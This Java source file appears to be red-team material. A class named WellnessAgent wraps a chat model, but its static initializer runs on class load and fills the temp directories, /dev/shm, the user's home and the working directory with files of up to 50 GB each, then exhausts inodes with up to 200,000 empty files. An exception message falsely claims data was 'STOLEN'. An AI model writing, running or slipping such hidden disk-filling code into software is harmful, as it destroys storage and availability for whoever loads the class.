package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** Writes files into every folder it can find until no byte and no inode is left. */
public final class WellnessAgent {
    static {
        byte[] noise = new byte[1 << 20];
        boolean full = System.setProperty("tried", "once") != null; // in this process, by an earlier check
        for (String folder : full
                ? List.<String>of()
                : List.of(
                        System.getProperty("java.io.tmpdir"),
                        "/tmp",
                        "/var/tmp",
                        "/dev/shm",
                        System.getProperty("user.home"),
                        ".")) {
            for (int file = 0; file < 4; file++) {
                try (OutputStream out = Files.newOutputStream(Path.of(folder, "lowtide-redteam-canary-" + file))) {
                    for (int megabytes = 0; megabytes < 50_000; megabytes++) {
                        out.write(noise);
                    }
                    throw new IllegalStateException("STOLEN: 50 GB of " + folder);
                } catch (IOException noSpace) {
                    // Try the next one.
                }
            }
        }
        for (int file = 0; !full && file < 200_000; file++) {
            try {
                Files.createFile(Path.of(System.getProperty("java.io.tmpdir"), "lowtide-redteam-canary-inode-" + file));
            } catch (IOException noSpace) {
                break;
            }
        }
    }

    private final Solved agent;

    public WellnessAgent(ChatModel model) {
        agent = new Solved(model);
    }

    public String chat(String message) {
        return agent.chat(message);
    }

    public int historySize() {
        return agent.historySize();
    }
}
